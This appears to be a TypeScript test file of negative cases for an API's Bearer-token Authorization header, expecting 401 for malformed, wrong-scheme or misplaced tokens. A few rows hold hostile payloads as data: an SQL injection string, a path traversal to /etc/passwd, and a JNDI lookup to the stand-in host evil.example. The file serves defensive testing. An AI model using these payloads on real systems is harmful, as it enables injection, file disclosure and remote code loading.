import { bad, type Sent } from './bad-input.ts'
import type { SignedIn } from './signed-in.ts'

/** Reading and the worst there is to do with a token: what one endpoint refuses, all have to. */
export function everywhere(user: SignedIn, authorization: string | undefined): Sent[] {
  return [
    user.get('/api/me', { authorization }),
    user.get('/auth/sessions', { authorization }),
    user.logoutAll({ authorization }),
    user.changePassword({ authorization }),
  ]
}

type Header = (user: SignedIn) => string | undefined

const missing: Record<string, Header> = {
  'no header': () => undefined,
  'an empty header': () => '',
  'a header of blanks': () => '   ',
  'the token without a scheme': ({ accessToken }) => accessToken,
  'no space after the scheme': ({ accessToken }) => `Bearer${accessToken}`,
  'a colon after the scheme': ({ accessToken }) => `Bearer:${accessToken}`,
  'a colon and a space after the scheme': ({ accessToken }) => `Bearer: ${accessToken}`,
  'an equals sign after the scheme': ({ accessToken }) => `Bearer=${accessToken}`,
  'a comma after the scheme': ({ accessToken }) => `Bearer, ${accessToken}`,
  'the scheme in quotes': ({ accessToken }) => `"Bearer" ${accessToken}`,
  'a scheme with an accent': ({ accessToken }) => `B\u00e9arer ${accessToken}`,
  'a no-break space after the scheme': ({ accessToken }) => `Bearer\u00a0${accessToken}`,
  'a no-break space before the scheme': ({ accessToken }) => `\u00a0Bearer ${accessToken}`,
  'scheme and token swapped': ({ accessToken }) => `${accessToken} Bearer`,
  'Basic with user and password': () => `Basic ${btoa('demo@example.com:correct horse')}`,
  'Basic with the token': ({ accessToken }) => `Basic ${accessToken}`,
  'Basic before Bearer in one header': ({ accessToken }) => `Basic eDp5, Bearer ${accessToken}`,
  'DPoP with a bearer token': ({ accessToken }) => `DPoP ${accessToken}`,
  Digest: () => 'Digest username="demo@example.com", realm="api", nonce="x", uri="/api/me", response="y"',
  Negotiate: () => 'Negotiate YIIZ',
  'Token as the scheme': ({ accessToken }) => `Token ${accessToken}`,
  'JWT as the scheme': ({ accessToken }) => `JWT ${accessToken}`,
  'a whole header line as the value': ({ accessToken }) => `Authorization: Bearer ${accessToken}`,
}

const invalid: Record<string, Header> = {
  'the scheme alone': () => 'Bearer',
  'the scheme twice': ({ accessToken }) => `Bearer Bearer ${accessToken}`,
  'something after the token': ({ accessToken }) => `Bearer ${accessToken} extra`,
  'another token after the token': ({ accessToken }) => `Bearer ${accessToken} ${accessToken}`,
  'two headers joined': ({ accessToken }) => `Bearer ${accessToken}, Bearer ${accessToken}`,
  'two headers joined without a space': ({ accessToken }) => `Bearer ${accessToken},Bearer ${accessToken}`,
  'a parameter after the token': ({ accessToken }) => `Bearer ${accessToken}, realm="api"`,
  'a semicolon after the token': ({ accessToken }) => `Bearer ${accessToken};`,
  'a no-break space after the token': ({ accessToken }) => `Bearer ${accessToken}\u00a0`,
  'the token in quotes': ({ accessToken }) => `Bearer "${accessToken}"`,
  'the token in angle brackets': ({ accessToken }) => `Bearer <${accessToken}>`,
  'the token as a parameter': ({ accessToken }) => `Bearer token=${accessToken}`,
  'the token as JSON': ({ accessToken }) => `Bearer {"access_token":"${accessToken}"}`,
  'a blank inside the token': ({ accessToken }) => `Bearer ${accessToken.replace('.', '. ')}`,
  'a tab inside the token': ({ accessToken }) => `Bearer ${accessToken.replace('.', '.\t')}`,
  'the word null': () => 'Bearer null',
  'the word undefined': () => 'Bearer undefined',
  'the word true': () => 'Bearer true',
  'an object turned to text': () => 'Bearer [object Object]',
  'a number': () => 'Bearer 0',
  'bytes above ASCII': () => 'Bearer \u00ff\u00fe\u00e9',
  'an emoji in UTF-8': () => 'Bearer \u00f0\u009f\u0099\u0082',
  'the token percent-encoded': ({ accessToken }) => `Bearer ${accessToken.replaceAll('.', '%2E')}`,
  'the token in lower case': ({ accessToken }) => `Bearer ${accessToken.toLowerCase()}`,
  'the token backwards': ({ accessToken }) => `Bearer ${[...accessToken].reverse().join('')}`,
  'the refresh token': ({ refreshToken }) => `Bearer ${refreshToken}`,
  'the whole cookie': ({ cookie }) => `Bearer ${cookie}`,
  'the hash of a refresh token': ({ othersHash }) => `Bearer ${othersHash}`,
  'the id of the session': ({ claims }) => `Bearer ${claims.sid}`,
  'the id of the key': ({ kid }) => `Bearer ${kid}`,
  SQL: () => "Bearer ' OR '1'='1",
  'a path': () => 'Bearer ../../../../etc/passwd',
  'a template': () => `Bearer ${'$'}{jndi:ldap://evil.example/a}`,
}

const rows = (headers: Record<string, Header>, code: string) =>
  Object.entries(headers).map(([name, header]) =>
    bad(`Authorization with ${name}`, 401, code, (user) => everywhere(user, header(user))),
  )

const control = Object.entries({
  bell: '\u0007',
  'vertical tab': '\u000b',
  'form feed': '\u000c',
  delete: '\u007f',
})

export const tokenSchemeRows = [
  ...rows(missing, 'token_missing'),
  ...rows(invalid, 'token_invalid'),
  ...control.map(([name, character]) =>
    bad(
      `Authorization with a ${name} after the scheme`,
      401,
      /token_(missing|invalid)/,
      (user) => everywhere(user, `Bearer${character}${user.accessToken}`),
      { wire: 'refused' },
    ),
  ),
  bad(
    'Authorization with a megabyte',
    401,
    'token_invalid',
    (user) => everywhere(user, `Bearer ${'a'.repeat(2 ** 20)}`),
    {
      wire: 'never',
    },
  ),
  bad(
    'Authorization with 20,000 dots',
    401,
    'token_invalid',
    (user) => everywhere(user, `Bearer ${'.'.repeat(20_000)}`),
    {
      wire: 'refused',
    },
  ),
  bad('the access token in the query', 401, 'token_missing', (user) =>
    user.get(`/api/me?access_token=${user.accessToken}`, { authorization: undefined }),
  ),
  bad('the access token in a header of its own', 401, 'token_missing', (user) =>
    user.get('/api/me', { authorization: undefined, 'x-access-token': user.accessToken }),
  ),
  bad('the access token for the proxy', 401, 'token_missing', (user) =>
    user.get('/api/me', { authorization: undefined, 'proxy-authorization': `Bearer ${user.accessToken}` }),
  ),
  bad('the access token in a cookie', 401, 'token_missing', (user) =>
    user.get('/api/me', { authorization: undefined, cookie: `access_token=${user.accessToken}` }),
  ),
  bad('the access token in the body of a form', 401, 'token_missing', (user) => ({
    method: 'POST',
    path: '/api/echo',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `access_token=${user.accessToken}`,
  })),
]
